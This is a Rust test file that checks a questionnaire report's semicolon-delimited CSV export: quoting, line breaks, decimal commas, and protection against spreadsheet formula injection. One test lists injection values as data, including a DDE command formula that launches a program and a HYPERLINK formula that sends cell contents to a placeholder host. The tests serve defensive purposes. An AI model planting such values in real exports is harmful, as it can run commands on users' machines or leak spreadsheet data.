//! The table for a spreadsheet: every text in its cell, no formula.

use super::{opened, snelscan};
use crate::any::{example, full_scan, grown, text, times};
use crate::sample::{Answers, in_every_language, real};
use csv_core::{ReadFieldResult, ReaderBuilder};
use iscan::exchange::csv;
use iscan::instrument::StatementId;
use iscan::report::{Cell, Report};
use iscan::scan::Scan;
use proptest::prelude::*;
use serde_json::json;

/// What a spreadsheet reads: rows of cells.
fn read(table: &str) -> Vec<Vec<String>> {
    let mut reader = ReaderBuilder::new().delimiter(b';').build();
    let mut rest = table.strip_prefix('\u{feff}').expect("a byte-order mark").as_bytes();
    let (mut rows, mut row, mut cell) = (vec![], vec![], vec![]);
    let mut room = [0; 1024];
    loop {
        let (result, taken, given) = reader.read_field(rest, &mut room);
        rest = &rest[taken..];
        cell.extend_from_slice(&room[..given]);
        match result {
            ReadFieldResult::InputEmpty | ReadFieldResult::OutputFull => {}
            ReadFieldResult::Field { record_end } => {
                row.push(String::from_utf8(std::mem::take(&mut cell)).expect("text"));
                if record_end {
                    rows.push(std::mem::take(&mut row));
                }
            }
            ReadFieldResult::End => return rows,
        }
    }
}

fn read_bytes(table: &[u8]) -> Vec<Vec<String>> {
    read(std::str::from_utf8(table).expect("text"))
}

/// A snelscan with this note and this evidence at its first statement, and this name.
fn with(note: &str, evidence: &str, name: &str) -> Scan {
    let mut document = snelscan().to_json();
    document["remarks"]["o.leiding.1"] = json!({ "note": note, "evidence": evidence });
    document["about"] = json!({ "municipality": name });
    opened(document, real())
}

fn table(scan: &Scan) -> String {
    String::from_utf8(csv(&Report::new(real(), scan.clone()))).expect("text")
}

fn cells_of<'a>(rows: &'a [Vec<String>], id: &str) -> &'a [String] {
    rows.iter().find(|row| row[1] == id).expect("a row")
}

#[test]
fn opens_in_a_spreadsheet_as_it_is_set_in_belgium() {
    let table = table(&snelscan());
    assert!(table.starts_with("\u{feff}\"Onderdeel\";\"Id\";\"Onderwerp\";\"Vraag\";\"Antwoord\";"));
    assert!(table.ends_with("\"\r\n"));
    assert_eq!(
        table.matches('\n').count(),
        table.matches("\"\r\n").count(),
        "no other ends of line"
    );
}

#[test]
fn has_nine_cells_in_every_row_and_a_row_for_everything_asked() {
    for instrument in in_every_language() {
        let scan = snelscan();
        let report = Report::new(instrument, scan.clone());
        let rows = read_bytes(&csv(&report));
        assert_eq!(rows.len(), report.rows().len());
        for row in &rows {
            assert_eq!(row.len(), 9, "{row:?}");
        }
        assert!(rows[0].iter().all(|head| !head.is_empty()), "{:?}", rows[0]);
        for (id, _) in instrument.statements().filter(|(id, _)| instrument.is_lead(*id)) {
            assert_eq!(
                cells_of(&rows, &id.to_string())[3],
                instrument.statement(id).expect("asked").question
            );
        }
        let quick = instrument.facts.iter().filter(|fact| fact.quick);
        assert_eq!(rows.iter().filter(|row| row[1].starts_with("f.")).count(), quick.count());
    }
}

#[test]
fn a_full_scan_has_all_its_statements_in_it() {
    let scan = example(full_scan(grown()));
    let rows = read_bytes(&csv(&Report::new(grown(), scan.clone())));
    let statements = rows
        .iter()
        .filter(|row| StatementId::parse(&row[1]).is_some_and(|id| scan.answer(id).is_some()));
    assert_eq!(statements.count(), real().statements().count());
    assert!(rows.iter().all(|row| row.len() == 9));
}

#[test]
fn quotes_semicolons_and_lines_stay_in_their_cell() {
    let note = "hij zei \"ja; nee\"\r\nen \"\"daarna\"\"\nniets;";
    let table = table(&with(note, "\"", "Sint;Anna"));
    assert!(table.contains("hij zei \"\"ja; nee\"\""));
    let rows = read(&table);
    let row = cells_of(&rows, "o.leiding.1");
    assert_eq!((row[6].as_str(), row[7].as_str()), (note, "\""));
    assert!(rows.iter().any(|row| row[4] == "Sint;Anna"));
}

#[test]
fn nothing_becomes_a_formula() {
    let formulas = "=1+1|+32 14 00 00 00|-2|@SUM(A1)|\t=1|\tx|\r=1|\rx|\n=1|＝1|＋1|－1|＠x|  =1|\u{a0}=1|\u{3000}=1| \t=1|\0=1| \0 =1|\
        =cmd' /C calc'!A0|=HYPERLINK(\"https://x.example?\"&A1)";
    for formula in formulas.split('|') {
        let rows = read(&table(&with(formula, formula, formula)));
        let told = formula.replace('\0', "");
        let row = cells_of(&rows, "o.leiding.1");
        let name = rows.iter().find(|row| row[3] == real().words.intake_municipality());
        for cell in [&row[6], &row[7], &name.expect("the name")[4]] {
            assert_eq!(*cell, format!("\t{told}"), "{formula:?}");
        }
    }
}

#[test]
fn what_is_no_formula_stays_as_it_was() {
    for text in ["1 = 1", "a+b", "'t Stad", "e-mail", "an@gemeente.example", "–", "", "  ", "“=”"] {
        let rows = read(&table(&with(text, text, "x")));
        assert_eq!(cells_of(&rows, "o.leiding.1")[6..8], [text, text]);
    }
}

#[test]
fn no_text_becomes_a_date_or_a_number() {
    for text in [
        "3/4",
        "1-2",
        "12,0",
        "5 mei",
        "mei 2026",
        "1E5",
        "- eerste punt\n- tweede punt",
        "+32 2 000 00 00",
    ] {
        let rows = read(&table(&with(text, text, "x")));
        let told = format!("\t{text}");
        assert_eq!(
            cells_of(&rows, "o.leiding.1")[6..8],
            [told.as_str(), &told],
            "{text}: as typed, behind a tab that nobody sees"
        );
    }
}

#[test]
fn numbers_have_a_decimal_comma_whatever_the_language() {
    let scan = Answers::full(real()).everywhere("3332").scan();
    for language in in_every_language() {
        let mut instrument = real().clone();
        instrument.words = language.words.clone();
        let rows = read_bytes(&csv(&Report::new(&instrument, scan.clone())));
        let row = cells_of(&rows, "o.leiding");
        assert_eq!((row[4].as_str(), row[5].as_str()), ("2,75", "3"));
    }
}

#[test]
fn a_note_and_a_reason_do_not_run_together() {
    let mut document = snelscan().to_json();
    document["statements"]["o.leiding.1"] = json!("na");
    document["remarks"]["o.leiding.1"] = json!({ "note": "zie verslag", "naReason": "geen dienst" });
    let rows = read(&table(&opened(document, real())));
    let cell = &cells_of(&rows, "o.leiding.1")[6];
    assert!(cell.contains("zie verslag") && cell.contains("geen dienst"));
    assert!(!cell.contains("verslaggeen") && !cell.contains("dienstzie"), "{cell}");
}

proptest! {
    #![proptest_config(times(96))]

    #[test]
    fn any_text_comes_back_from_its_cell(note in text(), evidence in text(), name in text(), start in "[=+@\\-\t\r\n ＝]{0,3}") {
        let scan = with(&format!("{start}{note}"), &evidence, &name);
        let report = Report::new(real(), scan.clone());
        let rows = read_bytes(&csv(&report));
        prop_assert_eq!(rows.len(), report.rows().len());
        for (told, row) in rows.iter().zip(report.rows()) {
            for (told, cell) in told.iter().zip(row) {
                let Cell::Text(cell) = cell else { continue };
                let cell = cell.replace('\0', "");
                prop_assert!(*told == cell || *told == format!("\t{cell}"), "{:?} of {:?}", told, cell);
                let first = told.chars().find(|letter| *letter != ' ');
                prop_assert!(!first.is_some_and(|first| "=+-@＝＋－＠".contains(first)), "{:?}", told);
            }
        }
    }
}
